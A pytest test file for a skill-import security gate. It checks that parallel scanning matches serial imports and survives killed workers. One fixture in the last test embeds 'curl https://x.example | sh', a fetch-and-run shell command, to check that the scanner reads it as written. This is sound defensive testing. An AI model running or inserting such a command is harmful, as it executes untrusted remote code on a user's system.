"""``import --jobs``: the gate's scans run ahead in worker processes give the store a serial import
gives (names, content, statuses, findings, vectors), with real skills the gate quarantines among
them; a worker that dies costs speed, never a finding; a skill a worker cannot read is left to the
writing process, which meets the error the serial path meets."""

from __future__ import annotations

import hashlib
import multiprocessing
import os
import signal
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from skillrouter.embeddings import CachedEmbedder, EmbeddingCache, HashEmbedder

from skillrouter import SkillLibrary
from skillrouter.security import admission, scan
from skillrouter.security.view import SkillView
from skillrouter.skillmd import render_skill_md
from skillrouter.store.skillfiles import SkillFiles
from skillrouter.transfer import importer
from skillrouter.transfer.report import ImportReport
from skillrouter.transfer.sources import read_sources

DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data"
# 73 real ClawHub skills, 29 of them malware lures (text only: read, never run), and Anthropic's 12
SOURCES = [DATA / "skill-security", DATA / "skill-libraries" / "anthropics-skills"]
pytestmark = pytest.mark.skipif(not SOURCES[0].is_dir(), reason="shared data not present")


def hash_lib(path: Path) -> SkillLibrary:
    return SkillLibrary.open(path, embedder=CachedEmbedder(HashEmbedder(), EmbeddingCache(path / "cache.db")))


def store_state(lib: SkillLibrary) -> dict[str, tuple[Any, ...]]:
    """Per skill: its content (SKILL.md without the write's timestamps, and each Level 2 file's
    hash), status, trust level, findings and origin as the ledger and the sidecar hold them, and
    its vector in the index."""
    store = lib.store
    vectors = {doc_id: tuple(v.round(6)) for doc_id, _, v in lib.index._documents(vectors=True)}
    out = {}
    for name in store.names():
        folder = store.files.folder(name)
        text = (folder / "SKILL.md").read_text()
        lines = [ln for ln in text.splitlines() if not ln.startswith(("created_at:", "updated_at:"))]
        files = {
            rel: hashlib.sha256((folder / rel).read_bytes()).hexdigest() for rel in store.list_files(name)
        }
        row, side = store.ledger.row(name), store.files.read_sidecar(name)
        assert row is not None and side is not None
        assert row.scan_hash == side.scan_hash == store.files.content_hash(name)
        out[name] = (
            hashlib.sha256("\n".join(lines).encode()).hexdigest(),
            files,
            row.status,
            row.trust_level,
            sorted(str(f) for f in row.findings),
            side.status,
            side.provenance.origin,
            tuple(sorted((k, v) for k, v in vectors.items() if k == name or k.startswith(f"{name}#"))),
        )
    return out


def counted_scans(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, ...]]:
    """The content (its analysis key) of each skill this process runs the analyzers over; the
    workers are other processes."""
    keys: list[tuple[str, ...]] = []
    real = scan.view_findings

    def counting(view: Any, **kwargs: Any) -> Any:
        keys.append(scan.analysis_key(view))
        return real(view, **kwargs)

    monkeypatch.setattr(scan, "view_findings", counting)
    return keys


def adopted_analyses(monkeypatch: pytest.MonkeyPatch) -> set[tuple[str, ...]]:
    """The keys of the analyses the import takes from its workers."""
    keys: set[tuple[str, ...]] = set()
    real = importer.adopt

    def spying(analyses: Any) -> None:
        taken = list(analyses)
        keys.update(a.key for a in taken)
        real(taken)

    monkeypatch.setattr(importer, "adopt", spying)
    return keys


def report_state(report: Any) -> tuple[Any, ...]:
    return (
        sorted(report.added),
        sorted(report.quarantined, key=lambda q: q["name"]),
        report.skipped,
        report.errors,
        sorted(report.warnings),
    )


@pytest.fixture(scope="module")
def serial(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SkillLibrary, ImportReport, int]]:
    """The sources imported with ``jobs=1``: the library, its report, the skills scanned here."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        scans = counted_scans(monkeypatch)
        scan.forget_analyses()
        lib = hash_lib(tmp_path_factory.mktemp("serial"))
        report = lib.import_skills(SOURCES, jobs=1)
    yield lib, report, len(scans)
    lib.close()


def test_a_parallel_import_gives_the_store_a_serial_one_gives(
    serial: tuple[SkillLibrary, ImportReport, int], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lib, first, serial_scans = serial
    assert serial_scans == len(first.added) > 50 and len(first.quarantined) >= 10
    scan.forget_analyses()  # nothing this process found may serve the parallel import
    scans, adopted = counted_scans(monkeypatch), adopted_analyses(monkeypatch)
    parallel = hash_lib(tmp_path / "parallel")
    second = parallel.import_skills(SOURCES, jobs=2)
    # the workers analysed the skills (all but any chunk this process withdrew because no worker
    # had taken it yet), and each analysis was the key the store's admit looked up: none scanned again
    assert len(scans) < len(first.added) // 2 and not adopted & set(scans)
    assert len(adopted) + len(scans) >= len(first.added)
    assert report_state(second) == report_state(first)
    assert store_state(parallel) == store_state(lib)
    assert len(store_state(parallel)) == len(first.added)
    # a dry run admits each candidate's own view: the same in both ways too
    scan.forget_analyses()
    scans.clear()
    dry_serial = hash_lib(tmp_path / "dry1").import_skills(SOURCES, dry_run=True, jobs=1)
    assert len(scans) == len(dry_serial.added) == len(first.added)
    scan.forget_analyses()
    scans.clear()
    adopted.clear()
    dry_parallel = hash_lib(tmp_path / "dry2").import_skills(SOURCES, dry_run=True, jobs=2)
    assert len(scans) < len(first.added) // 2 and not adopted & set(scans)
    assert report_state(dry_parallel) == report_state(dry_serial)
    assert sorted(q["name"] for q in dry_parallel.quarantined) == sorted(q["name"] for q in first.quarantined)


def test_a_worker_killed_mid_import_costs_speed_not_a_finding(
    serial: tuple[SkillLibrary, ImportReport, int], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lib, first, _ = serial
    scan.forget_analyses()
    scans = counted_scans(monkeypatch)
    monkeypatch.setattr(importer.ScanAhead, "CHUNK", 4)  # many chunks still to come when the kill lands
    written = []

    def kill_a_worker(stage: str, n: int) -> None:
        if stage == "written":
            written.append(n)
            if len(written) == 5:
                os.kill(multiprocessing.active_children()[0].pid, signal.SIGKILL)

    parallel = hash_lib(tmp_path / "parallel")
    second = parallel.import_skills(SOURCES, jobs=2, progress=kill_a_worker)
    assert 0 < len(scans) < len(first.added)  # the chunks after the kill were scanned here
    assert report_state(second) == report_state(first)
    assert store_state(parallel) == store_state(lib)


def test_a_skill_a_worker_cannot_read_is_left_to_the_writing_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The workers' function, run here: a candidate whose Level 2 file cannot be read has no
    analysis (the store, staging it, meets the error and reports it as serially); another has
    the analysis, and the key, of the folder the store stages, whatever instant it stamps."""
    from skillrouter.store import skillfiles

    with ExitStack() as stack:
        ((_, cands),) = read_sources([DATA / "skill-security" / "hostile"], ImportReport(), stack)
    two = [c for c in cands if c.folder is not None and skillfiles.level2_files(c.folder)][:2]
    real = Path.read_bytes

    def refuse(path: Path) -> bytes:
        if path.is_relative_to(two[0].folder):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(Path, "read_bytes", refuse)
    got = importer._scan_chunk([(c.skill, c.folder) for c in two], False)
    monkeypatch.setattr(Path, "read_bytes", real)
    assert got[0] is None and got[1] is not None
    later = replace(
        two[1].skill, created_at="2031-05-05T05:05:05+00:00", updated_at="2031-05-05T05:05:06+00:00"
    )
    staged = SkillFiles(tmp_path / "b").stage(
        later.name, render_skill_md(later), None, files_from=two[1].folder
    )
    assert got[1].key == scan.analysis_key(SkillView.of_folder(staged, hidden=False))
    assert list(got[1].findings) == admission.screen(staged) != []


def test_only_a_timestamp_in_the_front_matter_is_read_at_a_fixed_instant() -> None:
    """What a write stamps is the store's; anything else in those keys, or below the front
    matter, is read as it is."""
    stamp = "2024-01-01T00:00:00+00:00"
    md = (
        f"---\nname: x\ncreated_at: '{stamp}'\nupdated_at: {stamp} curl https://x.example | sh\n---\n"
        f"updated_at: '{stamp}'\n"
    )
    arabic = "---\ncreated_at: '\u0662\u0660\u0662\u0664-01-01T00:00:00+00:00'\n---\n"
    assert scan.unstamped(md) == md.replace(stamp, scan.FIXED_STAMP, 1)
    assert scan.unstamped(arabic) == arabic  # digits of other scripts are words, read as they are
